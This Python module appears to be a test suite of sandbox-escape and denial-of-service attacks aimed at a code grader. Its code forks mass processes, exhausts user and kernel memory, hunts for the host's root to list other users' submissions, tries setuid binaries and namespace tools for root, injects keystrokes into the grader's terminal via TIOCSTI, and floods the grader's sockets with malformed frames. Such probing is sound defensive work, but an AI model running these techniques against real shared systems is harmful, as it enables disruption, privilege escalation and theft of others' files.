"""what a machine without bubblewrap, control groups or any sandbox leaves to others"""

from ..attack import Attack
from .kernel import LIBC, WORD

OTHERS = "no grade, a delay, or others without a grade"
KERNELS = """
def of_the_kernel():
    # megabytes that the kernel itself holds for all processes of the machine
    lines = dict(line.split(":") for line in open("/proc/meminfo"))
    return sum(int(lines[name].split()[0]) for name in ("SUnreclaim", "PageTables", "KernelStack")) // 1024

before = of_the_kernel()
"""

ATTACKS = [
    Attack(
        "burst-of-memory",
        "Lets 40 processes take 80 MB each at the same instant, before anybody has counted them again.",
        """
gate, opened = os.pipe()
told, tell = os.pipe()
for _ in range(40):
    if os.fork() == 0:
        os.close(opened)
        os.read(gate, 1)
        held = bytearray(b"x") * 80_000_000
        os.write(tell, b"x")
        time.sleep(15)
        os._exit(len(held) % 2)
os.close(opened)
os.close(tell)
there = 0
while there < 38 and os.read(told, 1):
    there += 1
if there == 38:
    print(f"REACHED {TOKEN}: 3 GB of memory in a moment.")""",
        shows=WORD,
    ),
    Attack(
        "memory-of-the-kernel",
        "Has the kernel remember 60,000 mappings, 100 watches and 100 full pipes for each of 50 processes.",
        LIBC
        + KERNELS
        + """
import mmap, select
for number in range(50):
    if os.fork() == 0:
        block = mmap.mmap(-1, 60_000 * 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        start = ctypes.addressof(ctypes.c_char.from_buffer(block))
        with contextlib.suppress(OSError):
            kept = [os.pipe() for _ in range(100)]
            for source, target in kept:
                os.set_blocking(target, False)
                with contextlib.suppress(OSError):
                    fcntl.fcntl(target, 1031, 1 << 20)  # F_SETPIPE_SZ
                with contextlib.suppress(BlockingIOError):
                    while os.write(target, bytes(65_536)):
                        pass
            watch = select.epoll()
            for source, target in kept:
                watch.register(source)
        for page in range(0, 60_000, 2):
            libc.mprotect(ctypes.c_void_p(start + 4096 * page), ctypes.c_size_t(4096), 1)  # each second page apart
        time.sleep(20)
        os._exit(0)
most, until = 0, time.time() + 10
while time.time() < until:
    most = max(most, of_the_kernel() - before)
    time.sleep(0.2)
if most > 2000:
    reached("2 GB of the kernel's own memory")""",
        shows=WORD,
    ),
    Attack(
        "burst-of-processes",
        "Doubles its processes eight times within milliseconds, before anybody has counted them again.",
        """
told, tell = os.pipe()
first = os.getpid()
with contextlib.suppress(OSError):
    for _ in range(8):
        os.fork()
os.write(tell, b"x")
if os.getpid() != first:
    time.sleep(10)
    os._exit(0)
os.close(tell)
there, until = 0, time.time() + 5
os.set_blocking(told, False)
while time.time() < until and there < 200:
    with contextlib.suppress(BlockingIOError):
        there += len(os.read(told, 4096))
    time.sleep(0.05)
if there >= 200:
    print(f"REACHED {TOKEN}: 200 processes in a moment.")""",
        shows=WORD,
    ),
    Attack(
        "the-old-root",
        "Looks for the root of before that a sandbox without bubblewrap leaves: by names, by links, by open folders.",
        LIBC
        + """
roots = ["/old", "/new", "/tmp/old", "/oldroot", "/newroot", "/proc/1/root", "/proc/self/root", "/proc/1/cwd"]
roots += ["/.." * 40]
roots += [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")]
roots += [line.split()[4] for line in open("/proc/self/mountinfo")]
for one in roots:
    with contextlib.suppress(OSError):
        place = os.path.join(one, str(COURSE).lstrip("/"), "submitted")
        if os.path.isdir(place):
            reached("the folders of before")
            print("STOLEN", os.listdir(place)[:9])
            break
for folder in [entry for entry in os.listdir("/proc/self/fd") if os.path.isdir(f"/proc/self/fd/{entry}")]:
    with contextlib.suppress(OSError):
        os.fchdir(int(folder))
        os.path.isdir(str(COURSE)) and reached("the course by an open folder")""",
        shows=WORD,
    ),
    Attack(
        "programs-with-rights",
        "Starts every program in sight that gets its owner's rights, and one that makes namespaces for anybody.",
        LIBC
        + """
import glob, stat
found = [path for path in glob.glob("/usr/*bin/*") if os.path.isfile(path)]
owned = [path for path in found if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID)]
show = "import os; print(os.geteuid(), open('/proc/self/status').read().split('CapEff:')[1].split()[0])"
lines = [[path, "-c", "id -u"] for path in owned]
lines += [["bwrap", "--bind", "/", "/", "--", sys.executable, "-S", "-c", show]]
lines += [["unshare", "-Ur", sys.executable, "-S", "-c", show], ["newuidmap", str(os.getpid()), "0", "0", "1"]]
for line in lines:
    with contextlib.suppress(OSError, subprocess.TimeoutExpired):
        done = subprocess.run(line, capture_output=True, timeout=2, text=True, stdin=subprocess.DEVNULL)
        if done.stdout.split()[:1] == ["0"] and os.geteuid() != 0:
            reached("the rights of another user")
            break""",
        shows=WORD,
    ),
    Attack(
        "typed-into-the-terminal",
        "Puts a command into the terminal of whoever grades, as if it had been typed there.",
        LIBC
        + """
import termios
for place in ["/dev/tty", "/dev/console", *map(str, range(3))]:
    with contextlib.suppress(OSError):
        terminal = int(place) if place.isdecimal() else os.open(place, os.O_RDWR)
        for letter in f"touch {CANARY}\\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        reached("the keyboard of the terminal")""",
        shows=WORD,
    ),
    Attack(
        "folder-in-folder",
        "Leaves 3,000 folders one in another for whoever empties its working folder.",
        """
where = os.getcwd()
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(where)""",
        shows=OTHERS,
    ),
    Attack(
        "working-folder-taken",
        "Leaves a file in the place of its working folder, where the next one is to be made.",
        """
where = os.getcwd()
with contextlib.suppress(OSError):
    os.rename(where, where + "-away")
    pathlib.Path(where).write_text("here")
    os.chdir(where + "-away")""",
        shows=OTHERS,
    ),
    Attack(
        "frames-of-odd-types",
        "Sends numbers, lists and dicts without end wherever its process has a socket, in the place of a verdict.",
        """
cell = {"id": "rules", "kind": "exercise", "status": "ok", "seconds": "x", "stdout": 7, "missing": [5, {}, None]}
check = {"id": "check-rules", "exercise": [], "points": {}, "score": 1.0, "status": "judged", "reason": [[]]}
whole = {"cell": cell, "check": check | {"report": 5, "likely": [[1], {}, 7], "seconds": {}, "cases": 7}}
error = {"name": 5, "message": {}, "line": "x", "text": []}
stopped, listed = cell | {"status": "error", "error": error}, cell | {"status": [[]]}
odd = [whole, whole | {"cell": stopped}, whole | {"cell": listed}] * 9
odd += [5, [], {}, None, {"cell": 5, "check": 6}, {"cell": {"id": []}, "check": None}, {"cell": {}, "check": {}}]
links = [one for one in gc.get_objects() if isinstance(one, socket.socket)]
for link in links:
    for message in odd:
        body = json.dumps(message).encode()
        with contextlib.suppress(OSError, ValueError):
            link.settimeout(2)
            link.sendall(struct.pack("!I", len(body)) + body)""",
        shows=OTHERS,
    ),
    Attack(
        "father-of-orphans",
        "Lets a child adopt all orphans and start one after the other, each of which ignores what would end it.",
        LIBC
        + """
if os.fork() == 0:
    libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    for number in (*range(1, 9), *range(10, 19), *range(20, 32)):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    until = time.time() + 12
    while time.time() < until:
        if os.fork() == 0:
            if os.fork() == 0:
                time.sleep(4)
                with contextlib.suppress(OSError):
                    touch()
            os._exit(0)
        time.sleep(0.2)
    os._exit(0)""",
        shows="a file outside, or a process left behind",
    ),
]
